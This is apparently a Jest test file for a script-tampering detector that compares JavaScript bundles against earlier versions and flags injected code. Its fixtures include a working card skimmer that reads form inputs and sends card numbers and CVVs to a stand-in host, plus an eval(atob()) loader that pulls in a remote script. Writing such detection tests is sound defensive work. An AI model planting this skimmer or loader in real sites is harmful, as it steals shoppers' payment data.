import { describe, expect, test } from '@jest/globals'
import { fileName, isTampered, knownFile, newsOfFile } from './script-file.ts'

const line = (n: number) => `function step${n}(a,b){var total=a*${n}+b;return total>${n * 7}?total:b}\n`
const bundle = (from = 0) => Array.from({ length: 1_500 }, (_, n) => line(n + from)).join('')
const skimmer = `;setInterval(function(){var d={};document.querySelectorAll('input').forEach(function(e){d[e.name]=e.value});if(d.cc_number&&d.cvv)new Image().src='https://g.test/?d='+btoa(JSON.stringify(d))},3e3);addEventListener('x',f)`
const decoder = `;eval(atob('${Buffer.from(`document.write('<script src=https://a.test/x.js></script>')`).toString('base64')}'))`
const packed =
  "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}('0 1',2,2,'alert|me'.split('|'),0,{}))"
const middle = (text: string, code: string) => text.slice(0, 50_000) + code + text.slice(50_000)

describe('a file against its earlier version', () => {
  test.each<[string, string, string, string | null, boolean]>([
    ['the same', bundle(), bundle(), 'none', false],
    ['a release', bundle(), bundle(9), 'rewrite', false],
    ['a line more', bundle(), bundle() + line(1), 'insertion', false],
    ['a thief of cards behind it', bundle(), bundle() + skimmer, 'insertion', true],
    ['before it', bundle(), skimmer + bundle(), 'insertion', true],
    ['in the middle', bundle(), middle(bundle(), skimmer), 'insertion', true],
    ['behind a small file', line(1), line(1) + skimmer, 'insertion', true],
    ['behind a release: what no honest code does', bundle(), bundle(9) + decoder, 'rewrite', true],
    ['packed, behind a file', bundle(), bundle() + packed, 'insertion', true],
    ['packed, in a release', bundle(), bundle(9) + packed, 'rewrite', false],
    ['what was always packed', packed + bundle(), packed + bundle() + line(3), 'insertion', false],
  ])('%s', (_name, before, now, change, tampered) => {
    const news = newsOfFile(now, [knownFile(before)])
    expect([news.change, isTampered(news)]).toEqual([change, tampered])
  })
  test('the nearest of several versions counts', () =>
    expect(newsOfFile(bundle() + line(1), [knownFile(bundle(9)), knownFile(bundle())]).change).toBe('insertion'))
  test('of a new file, only what no honest code does', () => {
    expect(isTampered(newsOfFile(packed, []))).toBe(false)
    expect(isTampered(newsOfFile(decoder, []))).toBe(true)
  })
})

test.each([
  ['https://s.test/assets/app.3f9ab2c1.js?v=2', 'https://s.test/assets/app.~.js'],
  ['https://s.test/assets/index-D4fG_x1y.js', 'https://s.test/assets/index-~.js'],
  ['https://s.test/js/jquery-3.7.1.min.js', 'https://s.test/js/jquery-0.0.0.min.js'],
  ['https://s.test/site.js', 'https://s.test/site.js'],
  ['https://s.test/js/checkout.js', 'https://s.test/js/checkout.js'],
])('%s is %s in every release', (url, name) => expect(fileName(url)).toBe(name))
